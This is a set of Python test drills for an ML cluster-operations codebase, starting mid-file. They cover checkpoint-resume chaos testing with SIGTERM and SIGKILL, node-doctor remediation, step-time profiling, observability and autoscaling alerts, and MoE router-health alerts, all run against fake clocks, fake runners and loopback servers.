            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
        self.lines: list[str] = []

    def wait_for(self, pattern, timeout=300.0):
        """Read lines until `pattern` matches; returns the match or None
        if the process exits (or goes silent past timeout) first."""
        rx = re.compile(pattern)
        deadline = time.time() + timeout
        while time.time() < deadline:
            line = self.proc.stdout.readline()
            if not line:
                if self.proc.poll() is not None:
                    return None
                time.sleep(0.05)
                continue
            line = line.rstrip("\n")
            self.lines.append(line)
            log(f"  | {line}")
            m = rx.search(line)
            if m:
                return m
        return None

    def finish(self, timeout=600.0):
        out, _ = self.proc.communicate(timeout=timeout)
        self.lines.extend(out.splitlines())
        return self.proc.returncode

    def steps_reported(self):
        return [(int(m.group(1)), float(m.group(2)))
                for m in map(_STEP_RE.match, self.lines) if m]

    def checkpoints(self):
        return [int(m.group(1))
                for m in map(_CKPT_RE.match, self.lines) if m]


def _monotone_grid(run, start, K, total, name):
    """Window-boundary discipline for one leg: reported global steps
    strictly increase and land on the K-grid anchored at this leg's
    resume point (the tail step `total` excepted)."""
    steps = [s for s, _ in run.steps_reported()]
    check(f"{name}: monotone global step",
          all(a < b for a, b in zip(steps, steps[1:])), steps)
    off_grid = [s for s in steps if (s - start) % K and s != total]
    check(f"{name}: no skipped/repeated window (K-grid from {start})",
          not off_grid, off_grid)


def chaos_drill():
    from kubeoperator_trn.exitcodes import resolve_exit_preempted

    fast = os.environ.get("KO_PROBE_FAST") == "1"
    K = 4
    steps = 60 if fast else 200
    # every 2 windows, so the SIGTERM leg exercises the off-cadence
    # save-on-signal path rather than riding an already-saved boundary
    ckpt_every = 8
    rc_pre = resolve_exit_preempted()
    t0 = time.time()

    workdir = tempfile.mkdtemp(prefix="ko-chaos-")
    ckpt_dir = os.path.join(workdir, "ckpt")
    golden_dir = os.path.join(workdir, "golden")

    def env_for(ckpt):
        env = dict(os.environ)
        env.update({
            "JAX_PLATFORMS": "cpu",
            "KO_PRESET": "llama3_tiny",
            "KO_MESH_PLAN": "1,4,1,1,1",
            "KO_SEQ_LEN": "32",
            "KO_GLOBAL_BATCH": "8",
            "KO_STEPS": str(steps),
            "KO_STEPS_PER_CALL": str(K),
            "KO_CHECKPOINT_DIR": ckpt,
            "KO_CHECKPOINT_EVERY": str(ckpt_every),
            "KO_CHECKPOINT_KEEP": "3",
            "KO_LR": "1e-3",
            "KO_WARMUP": "2",
            "KO_SEED": "0",
            "KO_TELEMETRY_DIR": workdir,
        })
        return env

    # -- leg A: SIGTERM mid-run -> checkpoint + preempted exit ----------
    log("chaos: leg A — SIGTERM drains within one window")
    a = _Trainer(env_for(ckpt_dir))
    got = a.wait_for(r"^checkpoint @ \d+$")
    check("A: first checkpoint landed", got is not None,
          "\n".join(a.lines[-10:]))
    a.proc.send_signal(signal.SIGTERM)
    rc = a.finish()
    check("A: exited KO_EXIT_PREEMPTED", rc == rc_pre, f"rc={rc}")
    pre = [m for m in map(_PREEMPT_RE.search, a.lines) if m]
    check("A: preempt line printed", pre, a.lines[-10:])
    a_stop = int(pre[-1].group(1))
    check("A: checkpoint on a window boundary", a_stop % K == 0, a_stop)
    _monotone_grid(a, 0, K, steps, "A")

    # -- leg B: resume, then SIGKILL mid-window -------------------------
    log("chaos: leg B — resume from the drain, then kill -9")
    b = _Trainer(env_for(ckpt_dir))
    got = b.wait_for(r"^resumed from step (\d+)$")
    check("B: resumed exactly at the drain checkpoint",
          got is not None and int(got.group(1)) == a_stop,
          got and got.group(0))
    got = b.wait_for(r"^checkpoint @ \d+$")
    check("B: progressed past the resume point", got is not None,
          "\n".join(b.lines[-10:]))
    b.proc.kill()  # SIGKILL: no handler, no flush, no goodbye
    rc = b.finish()
    check("B: died of SIGKILL", rc == -signal.SIGKILL, f"rc={rc}")
    b_ckpt = max(b.checkpoints())
    _monotone_grid(b, a_stop, K, steps, "B")

    # -- leg C: resume after the hard kill, run to completion -----------
    log("chaos: leg C — atomic writes survive kill -9; run to the end")
    c = _Trainer(env_for(ckpt_dir))
    got = c.wait_for(r"^resumed from step (\d+)$")
    # >= rather than ==: SIGKILL can land in the sliver between a
    # checkpoint's LATEST replace and its stdout line, so the durable
    # step may be one window past the last line leg B saw
    check("C: restored cleanly from the last durable checkpoint",
          got is not None and int(got.group(1)) >= b_ckpt
          and (int(got.group(1)) - a_stop) % K == 0,
          got and got.group(0))
    c_start = int(got.group(1))
    rc = c.finish()
    check("C: completed", rc == 0, f"rc={rc}\n" + "\n".join(c.lines[-10:]))
    _monotone_grid(c, c_start, K, steps, "C")
    c_final = c.steps_reported()[-1]
    check("C: reached the configured step count", c_final[0] == steps,
          c_final)

    # -- golden run: same seed, never interrupted -----------------------
    log("chaos: golden — uninterrupted reference run")
    g = _Trainer(env_for(golden_dir))
    rc = g.finish()
    check("golden: completed", rc == 0, f"rc={rc}")
    g_final = g.steps_reported()[-1]
    # the stream is a pure function of (seed, step) and checkpoints are
    # lossless, so the stitched run must land on the same curve
    check("loss curve continuous (stitched == golden at final step)",
          g_final[0] == c_final[0]
          and abs(g_final[1] - c_final[1]) <= 1e-4,
          f"stitched={c_final} golden={g_final}")

    # -- elastic stage: reshard the final checkpoint both directions ----
    log("chaos: elastic — reshard final checkpoint at 8 and 2 devices")
    os.environ["XLA_FLAGS"] = (os.environ.get("XLA_FLAGS", "")
                               + " --xla_force_host_platform_device_count=8")
    import jax

    jax.config.update("jax_platforms", "cpu")
    from kubeoperator_trn.models import llama
    from kubeoperator_trn.parallel.mesh import MeshPlan
    from kubeoperator_trn.train import checkpoint as ckpt_mod
    from kubeoperator_trn.train import elastic
    from kubeoperator_trn.train.optim import AdamWConfig
    from kubeoperator_trn.train.train_step import TrainStepConfig

    tcfg = TrainStepConfig(model=llama.PRESETS["llama3_tiny"],
                           optim=AdamWConfig(total_steps=steps),
                           plan=MeshPlan(dp=1, fsdp=4))
    host, _ = ckpt_mod.restore_checkpoint(ckpt_dir)
    for n in (8, 2):
        state, _, _, plan = elastic.elastic_restore(ckpt_dir, tcfg,
                                                    n_devices=n)
        bad = elastic.state_parity_diff(state, host)
        check(f"elastic parity at {n} devices (plan {plan})", not bad, bad)

    print(json.dumps({
        "ok": True,
        "mode": "chaos",
        "steps": steps,
        "preempt_rc": rc_pre,
        "sigterm_stop_step": a_stop,
        "sigkill_resume_step": b_ckpt,
        "final_loss": c_final[1],
        "golden_loss": g_final[1],
        "wall_s": round(time.time() - t0, 1),
    }))


def main():
    if "--chaos" in sys.argv:
        chaos_drill()
    else:
        fault_drill()


if __name__ == "__main__":
    main()
