"""Fault-injection drill for the node-doctor subsystem (ISSUE 1 CI
tooling): stand up a dry-run control plane in-process, create a trn2
cluster, kill a fake worker host, and assert the full remediation loop
end-to-end —

  detection within the probe window -> events journal records the
  transition -> drain + host replacement runs through the TaskEngine ->
  cluster returns to Running -> a flapping node trips the circuit
  breaker and alerts instead of repair-looping.

No hardware, no network listeners beyond loopback, no sleeps: the drill
drives the doctor's tick() with a fake clock, exactly like the unit
tests but across the real build_app wiring (API + engine + provisioner
+ journal + notifier).  Exit 0 and one JSON summary line on stdout when
every stage holds; exit 1 with the failed stage otherwise.

Usage: python tools/doctor_drill.py
"""

import json
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))


def log(msg):
    print(msg, file=sys.stderr, flush=True)


def check(name, cond, detail=""):
    if not cond:
        log(f"DRILL FAILED at stage: {name} {detail}")
        print(json.dumps({"ok": False, "failed_stage": name,
                          "detail": str(detail)}))
        sys.exit(1)
    log(f"ok: {name}")


def main():
    from kubeoperator_trn.cluster import entities as E
    from kubeoperator_trn.cluster import events as EV
    from kubeoperator_trn.cluster.doctor import NodeDoctor
    from kubeoperator_trn.cluster.neuron_monitor import fake_monitor_sample
    from kubeoperator_trn.cluster.notify import FakeChannel, NotificationService
    from kubeoperator_trn.cluster.runner import FakeRunner
    from kubeoperator_trn.server import build_app

    runner = FakeRunner()
    api, engine, db = build_app(runner=runner, require_auth=False)
    channel = FakeChannel()
    notifier = NotificationService(db, extra_channels=[channel],
                                   synchronous=True)

    clock = {"t": 0.0}
    samples = {}
    doctor = NodeDoctor(db, api.service, api.journal, notifier=notifier,
                        samples_fn=lambda: dict(samples),
                        now_fn=lambda: clock["t"],
                        interval_s=15.0, fails_to_unhealthy=3,
                        max_repairs=2, window_s=3600.0, backoff_base_s=60.0)

    # -- bring up a dry-run trn2 cluster (ec2 provider, FakeCloud) ------
    nodes = [{"name": "master-0", "role": "master"},
             {"name": "worker-0", "role": "worker"},
             {"name": "worker-1", "role": "worker"}]
    status, out = api.handle("POST", "/api/v1/clusters", {
        "name": "drill", "spec": {"provider": "ec2", "neuron": True},
        "nodes": nodes,
    }, {})
    check("create accepted", status == 202, out)
    engine.wait(out["task_id"], timeout=60)
    cluster = db.get_by_name("clusters", "drill")
    check("cluster running", cluster["status"] == E.ST_RUNNING,
          cluster["status"])
    # the FakeRunner doesn't execute post-check, which is what stores
    # the kubeconfig on a real bring-up — stamp it so the doctor's
    # api-server check sees a reachable control plane
    cluster["kubeconfig"] = "drill-kubeconfig"
    db.put("clusters", cluster["id"], cluster)

    doctor.tick()
    check("healthy baseline: no events", db.get_events(limit=10) == [])

    # -- kill worker-1's host -------------------------------------------
    victim = next(n for n in cluster["nodes"] if n["name"] == "worker-1")
    host = db.get("hosts", victim["host_id"])
    host["status"] = "Down"
    db.put("hosts", host["id"], host)
    old_invocations = len(runner.invocations)

    # detection within the probe window: fails_to_unhealthy * interval
    for _ in range(doctor.fails_to_unhealthy):
        clock["t"] += doctor.interval_s
        doctor.tick()
    unhealthy = [e for e in db.get_events(limit=100)
                 if e["kind"] == EV.KIND_HEALTH_UNHEALTHY]
    check("detected within probe window",
          unhealthy and unhealthy[0]["node"] == "worker-1",
          [e["kind"] for e in db.get_events(limit=100)])
    check("events row records cause", "Down" in unhealthy[0]["cause"],
          unhealthy[0])

    rems = doctor.remediations
    check("remediation task enqueued", len(rems) == 1, rems)
    engine.wait(rems[0]["task_id"], timeout=60)
    task = db.get("tasks", rems[0]["task_id"])
    check("repair task succeeded via TaskEngine",
          task["status"] == E.T_SUCCESS and task["op"] == "repair", task)
    drill_playbooks = [i.playbook for i in runner.invocations[old_invocations:]]
    check("drain ran first", drill_playbooks[:2] == ["drain-nodes",
                                                     "remove-nodes"],
          drill_playbooks)
    check("node rejoined", "kubeadm-join" in drill_playbooks,
          drill_playbooks)
    host = db.get("hosts", victim["host_id"])
    check("host replaced (Running again)", host["status"] == "Running", host)
    cluster = db.get_by_name("clusters", "drill")
    check("cluster back to Running", cluster["status"] == E.ST_RUNNING,
          cluster["status"])

    clock["t"] += doctor.interval_s
    doctor.tick()  # harvest
    kinds = [e["kind"] for e in db.get_events(limit=100)]
    check("journal has the full story",
          all(k in kinds for k in (EV.KIND_HEALTH_DEGRADED,
                                   EV.KIND_HEALTH_UNHEALTHY,
                                   EV.KIND_REMEDIATION_START,
                                   EV.KIND_REMEDIATION_SUCCESS)), kinds)
    check("alerts fired", any(ev == "doctor.remediation.start"
                              for ev, _ in channel.sent),
          [ev for ev, _ in channel.sent])

    # -- flapping node: persistent device errors trip the breaker -------
    samples["worker-0"] = fake_monitor_sample(n_devices=1, cores_per_device=1,
                                              device_errors=4)
    for _ in range(20):
        clock["t"] += doctor.interval_s
        doctor.tick()
        for rem in doctor.remediations:
            engine.wait(rem["task_id"], timeout=60)
    # the budget is per CLUSTER: worker-1's earlier repair counts, so
    # worker-0 only gets the remainder before the breaker opens
    check("breaker capped repairs at budget",
          len(doctor.remediations) == doctor.max_repairs,
          doctor.remediations)
    repairs_after = [r for r in doctor.remediations if r["node"] == "worker-0"]
    giveups = [e for e in db.get_events(limit=200)
               if e["kind"] == EV.KIND_REMEDIATION_GIVEUP]
    check("giveup announced exactly once", len(giveups) == 1, giveups)
    check("giveup alert delivered",
          any(ev == "doctor.remediation.giveup" for ev, _ in channel.sent),
          [ev for ev, _ in channel.sent])

    engine.shutdown()
    print(json.dumps({
        "ok": True,
        "probe_window_s": doctor.interval_s * doctor.fails_to_unhealthy,
        "repair_task_id": rems[0]["task_id"],
        "repair_playbooks": drill_playbooks,
        "events_recorded": len(db.get_events(limit=1000)),
        "breaker_tripped_after": len(repairs_after),
    }))


if __name__ == "__main__":
    main()
