"""Step-time breakdown on the chip (VERDICT r1 item 2: 'attack the MFU
gap with a profile, not a sweep').

Measures, for the bench configuration:
  fwd        jitted forward+loss only
  fwd+bwd    jitted value_and_grad (no optimizer)
  full step  the bench train step (fwd+bwd+AdamW+donation)

The deltas separate model compute from the optimizer/collective tail.
Writes one JSON line to stdout; diagnostics to stderr.  Run serially
with the bench (one chip).
"""

import json
import os
import sys

# runnable as `python tools/profile_step.py` from anywhere
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
import time
from dataclasses import replace

_REAL_STDOUT = os.dup(1)
os.dup2(2, 1)


def emit(line):
    os.write(_REAL_STDOUT, (line + "\n").encode())


def log(msg):
    print(msg, file=sys.stderr, flush=True)


def timeit(fn, *args, steps=8):
    out = fn(*args)
    import jax

    jax.block_until_ready(out)
    t0 = time.time()
    for _ in range(steps):
        out = fn(*args)
    jax.block_until_ready(out)
    return (time.time() - t0) / steps


def main():
    import jax
    import jax.numpy as jnp

    from kubeoperator_trn.models import llama
    from kubeoperator_trn.parallel.mesh import MeshPlan, build_mesh
    from kubeoperator_trn.parallel.sharding import batch_spec
    from kubeoperator_trn.train.optim import AdamWConfig, adamw_update
    from kubeoperator_trn.train.train_step import TrainStepConfig, make_train_step

    preset = os.environ.get("KO_BENCH_PRESET", "llama3_200m")
    cfg = llama.PRESETS[preset]
    seq = int(os.environ.get("KO_BENCH_SEQ", "128"))
    bsz = int(os.environ.get("KO_BENCH_BSZ", "256"))
    plan_env = os.environ.get("KO_BENCH_PLAN", "")
    if plan_env:
        dp_, fsdp_, sp_, tp_, pp_ = (int(x) for x in plan_env.split(","))
        plan = MeshPlan(dp=dp_, fsdp=fsdp_, sp=sp_, tp=tp_, pp=pp_)
    else:
        plan = MeshPlan(fsdp=len(jax.devices()))
    mesh = build_mesh(plan)
    platform = jax.devices()[0].platform

    tcfg = TrainStepConfig(model=cfg,
                           optim=AdamWConfig(warmup_steps=10, total_steps=1000),
                           plan=plan)
    step, init_host, init_sharded, make_jitted, mesh = make_train_step(tcfg, mesh=mesh)
    state = init_host(0) if platform == "neuron" else init_sharded(jax.random.key(0))
    jax.block_until_ready(state)
    log(f"profile: {preset} plan={plan} bsz={bsz} seq={seq} platform={platform}")

    toks = jax.random.randint(jax.random.key(1), (bsz, seq + 1), 0, cfg.vocab_size)
    batch = {"inputs": toks[:, :-1].astype(jnp.int32),
             "targets": toks[:, 1:].astype(jnp.int32)}
    batch = jax.device_put(batch, jax.NamedSharding(mesh, batch_spec()))

    def loss_fn(params, b):
        return llama.loss_fn(cfg, params, b)

    fwd = jax.jit(loss_fn)
    t_fwd = timeit(fwd, state["params"], batch)
    log(f"profile: fwd {t_fwd*1e3:.1f}ms")

    vg = jax.jit(lambda p, b: jax.value_and_grad(loss_fn)(p, b))
    t_fwdbwd = timeit(vg, state["params"], batch)
    log(f"profile: fwd+bwd {t_fwdbwd*1e3:.1f}ms")

    jitted = make_jitted(state)

    def full(state, batch):
        state, metrics = jitted(state, batch)
        return state, metrics

    # full step donates state; time it by re-running on the returned state
    state, metrics = jitted(state, batch)
    jax.block_until_ready(metrics["loss"])
    t0 = time.time()
    n = 8
    for _ in range(n):
        state, metrics = jitted(state, batch)
    jax.block_until_ready(metrics["loss"])
    t_step = (time.time() - t0) / n
    log(f"profile: full step {t_step*1e3:.1f}ms")

    tokens = bsz * seq
    flops = cfg.flops_per_token(seq)
    peak = 78.6e12 * mesh.devices.size
    emit(json.dumps({
        "metric": "step_profile_ms",
        "fwd_ms": round(t_fwd * 1e3, 2),
        "fwd_bwd_ms": round(t_fwdbwd * 1e3, 2),
        "full_step_ms": round(t_step * 1e3, 2),
        "bwd_ms": round((t_fwdbwd - t_fwd) * 1e3, 2),
        "optimizer_tail_ms": round((t_step - t_fwdbwd) * 1e3, 2),
        "mfu_fwd_bwd_only": round(tokens * flops / (t_fwdbwd * peak), 4),
        "mfu_full": round(tokens * flops / (t_step * peak), 4),
        "detail": {"preset": preset, "plan": plan.shape, "bsz": bsz, "seq": seq},
    }))


if __name__ == "__main__":
    main()
