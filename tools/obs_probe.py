"""Observability-plane drill (ISSUE 8): exit-code-enforced, chip-free.

Stands up the real ops server (FakeRunner) plus TWO fake scrape targets
(real HTTP servers serving mutable Prometheus text), rewires the obs
plane onto a fake clock, then walks the full loop and asserts each leg
via the public ``/api/v1/obs/*`` endpoints:

  1. register both targets, scrape, both fresh in /obs/targets;
  2. serve a hot TTFT histogram, scrape past ``for:`` — the TTFT-p95
     rule transitions pending -> firing in /obs/alerts;
  3. the autoscaler raises the serve app's Deployment replicas (and a
     second pass inside cooldown does NOT);
  4. load drops — the alert resolves, and after the down-rule sustains,
     replicas scale back in;
  5. kill target two's server — the next scrapes mark it stale in
     /obs/targets and /healthz reports the stale count.

Any failed assertion exits nonzero (sweep-row contract:
``python tools/sweep.py --exps obs_probe``).
"""

import json
import os
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
sys.path.insert(0, REPO)

FAILURES = []


def check(name, ok, detail=""):
    tag = "ok" if ok else "FAIL"
    print(f"sweep: obs_probe {tag}: {name}" + (f" ({detail})" if detail else ""),
          flush=True)
    if not ok:
        FAILURES.append(name)


def fake_target(state):
    """HTTP server whose /metrics body is state["text"] (mutable)."""

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *a):
            pass

        def do_GET(self):
            data = state["text"].encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/plain; version=0.0.4")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


def ttft_text(fast: int, slow: int, occ: float) -> str:
    """Cumulative ko_work_infer_ttft histogram + occupancy gauge.
    ``fast`` observations land under 0.05s, ``slow`` between 0.5s and
    2s; both only ever grow (real counters are monotone — decreasing
    them would exercise the store's reset clamp, not the SLO path)."""
    total = fast + slow
    lines = [
        f'ko_work_infer_ttft_seconds_bucket{{le="0.05"}} {fast}',
        f'ko_work_infer_ttft_seconds_bucket{{le="0.5"}} {fast}',
        f'ko_work_infer_ttft_seconds_bucket{{le="2.0"}} {total}',
        f'ko_work_infer_ttft_seconds_bucket{{le="+Inf"}} {total}',
        f'ko_work_infer_ttft_seconds_count {total}',
        f'ko_work_infer_ttft_seconds_sum {slow * 1.0 + fast * 0.01:.3f}',
        f'ko_work_infer_batch_occupancy_ratio {occ}',
    ]
    return "\n".join(lines) + "\n"


def main():
    from kubeoperator_trn.cluster.api import make_server
    from kubeoperator_trn.cluster.autoscaler import ServeAutoscaler
    from kubeoperator_trn.cluster.runner import FakeRunner
    from kubeoperator_trn.server import build_app
    from kubeoperator_trn.telemetry.collector import Collector
    from kubeoperator_trn.telemetry.rules import RuleEngine, default_rules
    from kubeoperator_trn.telemetry.store import SeriesStore

    clock = [1000.0]
    now = lambda: clock[0]  # noqa: E731

    api, engine, db = build_app(runner=FakeRunner(), require_auth=False)
    # Rewire the obs plane onto the fake clock so the drill never sleeps
    # through for:/cooldown windows.
    store = SeriesStore(now_fn=now)
    collector = Collector(store=store, scrape_s=5.0, stale_after_s=12.0,
                          now_fn=now)
    os.environ.setdefault("KO_OBS_FOR_S", "15")
    rules = RuleEngine(store, rules=default_rules(), journal=api.journal,
                       now_fn=now)
    autoscaler = ServeAutoscaler(db, api.service, rules, journal=api.journal,
                                 cooldown_s=30.0, now_fn=now)
    collector.hooks.append(rules.evaluate)
    collector.hooks.append(autoscaler.tick)
    api.collector, api.rule_engine, api.autoscaler = collector, rules, autoscaler

    server, thread = make_server(api)
    thread.start()
    port = server.server_address[1]
    base = f"http://127.0.0.1:{port}"

    import urllib.error
    import urllib.request

    def req(method, path, body=None):
        data = json.dumps(body).encode() if body is not None else None
        r = urllib.request.Request(base + path, data=data, method=method,
                                   headers={"Content-Type": "application/json"})
        try:
            with urllib.request.urlopen(r, timeout=10) as resp:
                return resp.status, json.loads(resp.read())
        except urllib.error.HTTPError as e:
            return e.code, json.loads(e.read() or b"{}")

    # -- a Running cluster + serve app for the autoscaler to act on ----
    _, cred = req("POST", "/api/v1/credentials",
                  {"name": "k", "username": "root", "secret": "s"})
    _, host = req("POST", "/api/v1/hosts",
                  {"name": "h0", "ip": "10.0.0.1",
                   "credential_id": cred["id"]})
    _, out = req("POST", "/api/v1/clusters",
                 {"name": "obs", "spec": {},
                  "nodes": [{"name": "master-0", "host_id": host["id"],
                             "role": "master"}]})
    engine.wait(out["task_id"], timeout=60)
    _, app_out = req("POST", "/api/v1/clusters/obs/apps",
                     {"template": "llama3-8b-serve",
                      "overrides": {"replicas": 1, "max_replicas": 3}})
    engine.wait(app_out["task_id"], timeout=60)
    app_id = app_out["app"]["id"]

    # -- two fake serve replicas, registered via the public API --------
    fast, slow = 10, 0
    t1 = {"text": ttft_text(fast, slow, 0.5)}
    t2 = {"text": ttft_text(fast, slow, 0.5)}
    s1, s2 = fake_target(t1), fake_target(t2)
    for i, srv in ((1, s1), (2, s2)):
        status, _ = req("POST", "/api/v1/obs/targets",
                        {"name": f"replica{i}",
                         "url": f"http://127.0.0.1:{srv.server_address[1]}/metrics",
                         "labels": {"job": "serve"}})
        check(f"register replica{i}", status == 201, f"status={status}")

    collector.scrape_once()
    _, targets = req("GET", "/api/v1/obs/targets")
    fresh = {t["name"]: t for t in targets["items"]}
    check("both targets fresh after scrape",
          not fresh["replica1"]["stale"] and not fresh["replica2"]["stale"])

    # -- hot load: TTFT rule pending -> firing after for: --------------
    for step in range(6):  # 5s cadence x 6 = 30s > for_s=15
        clock[0] += 5.0
        slow += 20
        t1["text"] = ttft_text(fast, slow, 0.95)
        t2["text"] = ttft_text(fast, slow, 0.95)
        collector.scrape_once()
    _, alerts = req("GET", "/api/v1/obs/alerts")
    by_name = {a["name"]: a for a in alerts["items"]}
    check("ttft p95 rule firing",
          by_name.get("infer-ttft-p95-high", {}).get("state") == "firing",
          str({k: v["state"] for k, v in by_name.items()}))
    _, q = req("GET", "/api/v1/obs/query?metric=ko_work_infer_ttft_seconds"
                      "&op=p95&window=60")
    check("p95 query above threshold",
          (q.get("value") or 0) > 0.5, f"value={q.get('value')}")

    # -- autoscaler raised replicas, cooldown blocks a second move -----
    app = db.get("apps", app_id)
    check("autoscaler scaled up",
          app["manifest"]["spec"]["replicas"] == 2,
          f"replicas={app['manifest']['spec']['replicas']}")
    clock[0] += 5.0
    collector.scrape_once()  # still firing, but inside cooldown
    app = db.get("apps", app_id)
    check("cooldown blocks immediate second move",
          app["manifest"]["spec"]["replicas"] == 2,
          f"replicas={app['manifest']['spec']['replicas']}")

    # -- load drops: alert resolves, down-rule eventually scales in ----
    for step in range(26):
        clock[0] += 5.0
        fast += 20
        t1["text"] = ttft_text(fast, slow, 0.1)
        t2["text"] = ttft_text(fast, slow, 0.1)
        collector.scrape_once()
    _, alerts = req("GET", "/api/v1/obs/alerts")
    by_name = {a["name"]: a for a in alerts["items"]}
    check("ttft rule no longer firing",
          by_name["infer-ttft-p95-high"]["state"] != "firing",
          by_name["infer-ttft-p95-high"]["state"])
    app = db.get("apps", app_id)
    check("autoscaler scaled back down",
          app["manifest"]["spec"]["replicas"] == 1,
          f"replicas={app['manifest']['spec']['replicas']}")

    # -- staleness: kill replica2, scrape past stale_after_s -----------
    s2.shutdown()
    for _ in range(4):
        clock[0] += 5.0
        fast += 20
        t1["text"] = ttft_text(fast, slow, 0.1)
        collector.scrape_once()
    _, targets = req("GET", "/api/v1/obs/targets")
    fresh = {t["name"]: t for t in targets["items"]}
    check("dead target marked stale",
          fresh["replica2"]["stale"] and not fresh["replica1"]["stale"],
          str({k: v["stale"] for k, v in fresh.items()}))
    _, hz = req("GET", "/healthz")
    check("healthz reports stale count",
          hz.get("collector", {}).get("stale_targets") == 1, str(hz))

    s1.shutdown()
    server.shutdown()
    engine.shutdown()
    if FAILURES:
        print(f"sweep: obs_probe FAILED: {FAILURES}", flush=True)
        return 1
    print("sweep: obs_probe all checks passed", flush=True)
    print(json.dumps({"probe": "obs", "checks_failed": 0}), flush=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
