"""MoE router-health SLO drill (ISSUE 19): exit-code-enforced, chip-free.

Drives the stock ``train-moe-expert-imbalance`` and
``train-moe-router-entropy-low`` rules end to end on a fake clock:

  1. dense run — the entropy gauge is registered (0.0) but no
     per-expert load series flows, so the gated entropy rule must stay
     inactive (``when_missing: "block"``) instead of paging every
     non-MoE training job;
  2. healthy MoE — uniform expert load (imbalance = 1.0) and high
     router entropy: both rules quiet;
  3. collapse — one hot expert (max/mean well past KO_OBS_MOE_IMBALANCE)
     and entropy under KO_OBS_MOE_ENTROPY_MIN sustained past ``for:`` —
     both rules fire and ``alert.fired`` reaches the notify channel;
  4. recovery — routing rebalances, both alerts resolve through notify.

Any failed assertion exits nonzero (sweep-row contract:
``python tools/sweep.py --exps router_health``).
"""

import json
import os
import sys

REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
sys.path.insert(0, REPO)

FAILURES = []


def check(name, ok, detail=""):
    tag = "ok" if ok else "FAIL"
    print(f"sweep: router_health {tag}: {name}"
          + (f" ({detail})" if detail else ""), flush=True)
    if not ok:
        FAILURES.append(name)


def moe_text(loads, entropy):
    """Trainer exposition: per-expert load gauges + router entropy.
    ``loads=None`` models a dense run — the entropy gauge still shows
    up (registered at import, value 0.0) but no expert series exist."""
    lines = []
    if loads is not None:
        lines += [f'ko_work_train_moe_expert_load{{expert="{i}"}} {v}'
                  for i, v in enumerate(loads)]
    lines.append(f"ko_work_train_moe_router_entropy {entropy}")
    return "\n".join(lines) + "\n"


def main():
    from kubeoperator_trn.cluster.db import DB
    from kubeoperator_trn.cluster.notify import FakeChannel, NotificationService
    from kubeoperator_trn.telemetry.collector import Collector
    from kubeoperator_trn.telemetry.rules import RuleEngine, default_rules
    from kubeoperator_trn.telemetry.store import SeriesStore

    clock = [1000.0]
    now = lambda: clock[0]  # noqa: E731

    os.environ.setdefault("KO_OBS_FOR_S", "15")
    store = SeriesStore(now_fn=now)
    collector = Collector(store=store, scrape_s=5.0, now_fn=now)
    chan = FakeChannel()
    notifier = NotificationService(DB(":memory:"), extra_channels=[chan],
                                   synchronous=True)
    rules = RuleEngine(store, rules=default_rules(), notifier=notifier,
                       now_fn=now)
    collector.hooks.append(rules.evaluate)

    state = {"text": moe_text(None, 0.0)}
    collector.add_target("trainer", fetch=lambda: state["text"],
                         labels={"job": "train"})

    def states():
        return {a["name"]: a for a in rules.alerts()}

    def scrape(n):
        for _ in range(n):
            clock[0] += 5.0
            collector.scrape_once()

    # -- 1. dense run: entropy gauge present but 0.0, no expert load ---
    scrape(8)  # 40s >> for_s
    st = states()
    check("dense run: entropy rule gated inactive",
          st["train-moe-router-entropy-low"]["state"] == "inactive",
          st["train-moe-router-entropy-low"]["state"])
    check("dense run: imbalance rule inactive (no data)",
          st["train-moe-expert-imbalance"]["state"] == "inactive",
          st["train-moe-expert-imbalance"]["state"])

    # -- 2. healthy MoE: uniform routing, high entropy ------------------
    state["text"] = moe_text([12.5] * 8, 1.9)
    scrape(8)
    st = states()
    check("healthy MoE: both rules quiet",
          st["train-moe-expert-imbalance"]["state"] == "inactive"
          and st["train-moe-router-entropy-low"]["state"] == "inactive",
          str({k: st[k]["state"] for k in
               ("train-moe-expert-imbalance",
                "train-moe-router-entropy-low")}))
    check("healthy MoE: imbalance rollup ~1.0",
          abs((st["train-moe-expert-imbalance"]["value"] or 0) - 1.0) < 0.01,
          f"value={st['train-moe-expert-imbalance']['value']}")

    # -- 3. collapse: one hot expert + entropy under the floor ----------
    hot = [90.0] + [1.4] * 7
    state["text"] = moe_text(hot, 0.05)
    scrape(6)  # 30s > for_s=15
    st = states()
    check("collapse: imbalance rule firing",
          st["train-moe-expert-imbalance"]["state"] == "firing",
          st["train-moe-expert-imbalance"]["state"])
    check("collapse: imbalance value past threshold",
          (st["train-moe-expert-imbalance"]["value"] or 0) > 4.0,
          f"value={st['train-moe-expert-imbalance']['value']}")
    check("collapse: entropy rule firing (gate passes with load data)",
          st["train-moe-router-entropy-low"]["state"] == "firing",
          st["train-moe-router-entropy-low"]["state"])
    fired = {p["alert"] for e, p in chan.sent if e == "alert.fired"}
    check("collapse: both alerts reached the notify channel",
          {"train-moe-expert-imbalance",
           "train-moe-router-entropy-low"} <= fired, str(sorted(fired)))

    # -- 4. recovery: routing rebalances, alerts resolve ----------------
    state["text"] = moe_text([12.5] * 8, 1.9)
    scrape(4)
    st = states()
    check("recovery: both alerts resolved",
          st["train-moe-expert-imbalance"]["state"] != "firing"
          and st["train-moe-router-entropy-low"]["state"] != "firing",
          str({k: st[k]["state"] for k in
               ("train-moe-expert-imbalance",
                "train-moe-router-entropy-low")}))
    resolved = {p["alert"] for e, p in chan.sent if e == "alert.resolved"}
    check("recovery: resolutions reached the notify channel",
          {"train-moe-expert-imbalance",
           "train-moe-router-entropy-low"} <= resolved,
          str(sorted(resolved)))

    if FAILURES:
        print(f"sweep: router_health FAILED: {FAILURES}", flush=True)
        return 1
    print("sweep: router_health all checks passed", flush=True)
    print(json.dumps({"probe": "router_health", "checks_failed": 0}),
          flush=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
